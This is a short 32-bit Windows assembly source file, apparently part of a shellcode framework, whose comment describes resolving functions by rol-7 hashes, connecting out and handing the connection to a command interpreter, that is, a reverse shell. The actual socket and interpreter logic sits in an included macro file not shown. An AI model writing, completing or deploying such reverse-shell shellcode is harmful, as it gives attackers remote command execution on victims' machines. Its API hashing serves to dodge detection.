; Windows, 32 bit, functions by rol-7 hashes: connects and hands the connection to a command interpreter.
bits 32
%include "demo_socket.inc"
HASH connect_socket, 'connect'

        NEW_SOCKET
        NAME_SOCKET connect_socket
        INTERPRETER
